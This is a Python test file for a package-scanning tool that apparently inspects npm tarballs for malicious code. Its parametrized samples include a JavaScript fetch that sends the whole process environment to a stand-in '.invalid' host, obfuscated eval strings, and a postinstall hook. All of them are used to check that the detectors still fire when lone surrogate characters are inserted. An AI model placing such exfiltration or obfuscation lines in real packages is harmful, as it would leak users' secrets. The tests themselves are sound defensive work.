from __future__ import annotations

import io
import json
import tarfile
from datetime import UTC, datetime

import msgspec
import pytest

from assay.model.gap import GapKind
from assay.model.inspection import Inspection
from assay.model.integrity import Integrity
from assay.model.manifest import Manifest
from assay.model.package import PackageRef
from assay.model.packument import Release
from assay.model.subject import Existence, Subject
from assay.wiring.inspector import Job, inspect_job

THEN = datetime(2026, 3, 4, tzinfo=UTC)
REF = PackageRef("pkg", "1.0.0")
RELEASE = Release(REF, Manifest("pkg", "1.0.0"), published=THEN, integrity=Integrity.of(b""))
MANIFEST = b'{"name": "pkg", "version": "1.0.0"}'


def packed(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, data in files.items():
            member = tarfile.TarInfo(f"package/{name}")
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return buffer.getvalue()


def inspected(data: bytes) -> Inspection:
    job = Job(Subject(REF, THEN, Existence.EXISTS, release=RELEASE), data)
    return msgspec.msgpack.decode(inspect_job(msgspec.msgpack.encode(job)), type=Inspection)


def test_a_release_is_read_and_its_facts_come_back() -> None:
    data = packed({"package.json": MANIFEST, "index.js": b"module.exports = 1;"})
    found = inspected(data)
    assert (found.existence, found.release, found.integrity) == (Existence.EXISTS, RELEASE, Integrity.of(data))
    assert (found.file_count, found.gaps) == (2, ())


def test_bytes_that_are_no_archive_are_a_gap_and_the_facts_are_still_judged() -> None:
    found = inspected(b"this is no archive")
    assert [gap.kind for gap in found.gaps] == [GapKind.ARCHIVE]
    assert (found.release, found.integrity) == (RELEASE, None)


@pytest.mark.parametrize(
    "code",
    [
        "fetch('https://a\\ud800.invalid/' + JSON.stringify(process.env));",
        "eval(unescape('\\udfff' + '%63%6f%6e%73%6f%6c%65%2e%6c%6f%67%28%31%29'));",
        "eval(String.fromCharCode(55296, 99, 111, 110, 115, 111, 108, 101, 46, 108, 111, 103, 40, 49, 41));",
    ],
)
def test_half_a_character_pair_in_code_hides_nothing(code: str) -> None:
    found = inspected(packed({"package.json": MANIFEST, "index.js": code.encode()}))
    assert found.findings
    assert (found.release, found.gaps) == (RELEASE, ())


def test_half_a_character_pair_in_a_manifest_hides_nothing() -> None:
    manifest = {"name": "pkg", "version": "1.0.0", "scripts": {"postinstall": "node \ud800.js"}}
    found = inspected(packed({"package.json": json.dumps(manifest).encode()}))
    assert found.findings
    assert not [gap for gap in found.gaps if gap.kind is GapKind.DETECTOR]
